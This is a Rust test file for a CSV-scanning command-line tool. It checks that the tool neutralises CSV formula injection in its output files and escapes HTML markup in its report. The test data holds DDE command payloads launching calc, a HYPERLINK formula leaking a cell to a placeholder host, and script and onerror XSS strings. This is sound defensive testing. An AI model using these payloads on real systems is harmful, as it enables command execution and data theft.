//! Hostile input through the CLI (issue 8): a code column holding spreadsheet formulas must
//! not be written back runnable into any output CSV (CSV injection: a leading `'`), and the
//! HTML report shows them as text. (One enormous line: `bad_input.rs`,
//! `a_100_mb_line_is_one_unreadable_row`.)

mod common;

use common::{n, scan, Dir, VALID};

const FORMULAS: [&str; 6] = [
    "=HYPERLINK(\"http://example.invalid/?x=\"&A1,\"点此核对\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
];

#[test]
fn formulas_in_the_code_column_are_defused_in_flagged_csv() {
    let d = Dir::new();
    let mut text = String::from("统一社会信用代码,名称,登记日期\n");
    text.push_str(&format!("{},甲公司,2024-01-05\n", VALID[0]));
    for (i, f) in FORMULAS.iter().enumerate() {
        let quoted = format!("\"{}\"", f.replace('"', "\"\""));
        text.push_str(&format!("{quoted},公司{i},2024-01-0{}\n", i + 1));
    }
    let p = d.write("formulas.csv", text);
    let (code, _, err) = scan(&d, &[&p], &["-q"]);
    assert_eq!(code, 0, "{err}");
    let s = d.summary();
    assert_eq!(
        (n(&s, "total"), n(&s, "erroneous")),
        (1 + FORMULAS.len() as u64, FORMULAS.len() as u64)
    );

    // Every formula is flagged, and written back with a leading `'`.
    let rows = d.csv("flagged.csv");
    assert_eq!(rows[0][1], "code");
    for f in FORMULAS {
        let want = format!("'{f}");
        assert!(
            rows.iter().any(|r| r[1] == want),
            "{f:?} not written back as {want:?}: {rows:?}"
        );
    }
    // No cell of any output CSV starts like a formula.
    for name in [
        "flagged.csv",
        "duplicates.csv",
        "monthly.csv",
        "regions.csv",
    ] {
        if !d.out().join(name).exists() {
            continue;
        }
        for r in d.csv(name) {
            for c in &r {
                assert!(
                    !c.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{name}: {c:?}"
                );
            }
        }
    }
    // The HTML report shows them as text.
    let html = d.text("report.html");
    assert!(
        !html.contains("=HYPERLINK(\"http"),
        "an unescaped formula in report.html"
    );
}

#[test]
fn markup_in_names_and_codes_is_escaped_in_the_report() {
    let d = Dir::new();
    let text = format!(
        "统一社会信用代码,名称\n{v},<script>alert(1)</script>\n{v},<img src=x onerror=alert(1)>\n<b>91350100M000100Y43</b>,乙\n",
        v = VALID[0]
    );
    let p = d.write("markup.csv", text);
    let (code, _, err) = scan(&d, &[&p], &["-q"]);
    assert_eq!(code, 0, "{err}");
    let html = d.text("report.html");
    assert!(
        !html.contains("<script>alert(1)"),
        "script tag from the data"
    );
    assert!(!html.contains("<img src=x"), "img tag from the data");
    assert!(!html.contains("<b>91350100"), "markup from the code column");
}
